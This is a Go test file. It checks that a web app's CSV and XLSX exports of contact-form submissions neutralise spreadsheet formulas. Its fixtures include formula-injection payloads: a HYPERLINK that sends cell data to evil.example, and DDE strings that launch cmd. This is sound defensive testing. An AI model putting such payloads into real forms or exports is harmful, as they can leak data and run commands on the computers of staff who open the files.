package app

import (
	"encoding/csv"
	"net/http"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"
)

// deskLogin signs in a new forms-desk account of level staff (2 sees sensitive fields).
func deskLogin(t *testing.T, s *Server, ts interface{ Close() }, url, email string, staff int) *http.Client {
	t.Helper()
	c := staffClient(t, s, ts, url, email, false, staff)
	res, err := c.Post(url+"/api/web/auth/login", "application/json",
		strings.NewReader(`{"email":"`+email+`","password":"correct horse battery"}`))
	if err != nil {
		t.Fatal(err)
	}
	res.Body.Close()
	if res.StatusCode != 200 {
		t.Fatalf("login %s: %d", email, res.StatusCode)
	}
	return c
}

// TestExportNeutralisesFormulas: values a spreadsheet would run as a formula (=, +, -, @)
// are exported to CSV with a leading single quote (OWASP), the rest of the value kept; a
// plain number such as a phone number stays as it is. In XLSX every value is a string cell,
// never a formula.
func TestExportNeutralisesFormulas(t *testing.T) {
	s, ts := newTestServer(t)
	hostile := map[string]string{
		"firstName":    `=HYPERLINK("http://evil.example/?x="&A1,"Click")`,
		"lastName":     "@SUM(1+1)*cmd|' /C calc'!A0",
		"businessName": "+1+cmd|' /C calc'!A0",
		"description":  "-2+3",
		"phoneNumber":  "+97688112233",
	}
	body := map[string]any{"email": "evil@example.mn"}
	for k, v := range hostile {
		body[k] = v
	}
	mustStatus(t, call(t, nil, ts, "POST", "/api/forms/contact", body, ""), 201)
	desk := deskLogin(t, s, ts, ts.URL, "desk@example.mn", 1)

	res := do(t, ts, "GET", "/api/admin/forms/contact/export.csv", "", map[string]string{"Cookie": cookieOf(desk, ts.URL)})
	if res.status != 200 {
		t.Fatalf("csv: %d %s", res.status, res.body)
	}
	recs, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(res.body, "\uFEFF"))).ReadAll()
	if err != nil || len(recs) != 2 {
		t.Fatalf("csv: %v, %d rows", err, len(recs))
	}
	col := map[string]int{}
	for i, h := range recs[0] {
		col[h] = i
	}
	for field, v := range hostile {
		want := "'" + v
		if field == "phoneNumber" {
			want = v // a number, not a formula
		}
		if got := recs[1][col[field]]; got != want {
			t.Errorf("csv %s = %q, want %q", field, got, want)
		}
	}

	x := do(t, ts, "GET", "/api/admin/forms/contact/export.xlsx", "", map[string]string{"Cookie": cookieOf(desk, ts.URL)})
	if x.status != 200 {
		t.Fatalf("xlsx: %d", x.status)
	}
	f, err := excelize.OpenReader(strings.NewReader(x.body))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	rows, err := f.GetRows("Sheet1")
	if err != nil || len(rows) != 2 {
		t.Fatalf("xlsx rows: %v %d", err, len(rows))
	}
	for i, h := range rows[0] {
		v, ok := hostile[h]
		if !ok {
			continue
		}
		cell, _ := excelize.CoordinatesToCellName(i+1, 2)
		got, _ := f.GetCellValue("Sheet1", cell)
		formula, _ := f.GetCellFormula("Sheet1", cell)
		typ, _ := f.GetCellType("Sheet1", cell)
		if got != v || formula != "" || typ == excelize.CellTypeFormula {
			t.Errorf("xlsx %s: value %q formula %q type %v; want the text %q and no formula", h, got, formula, typ, v)
		}
	}
}
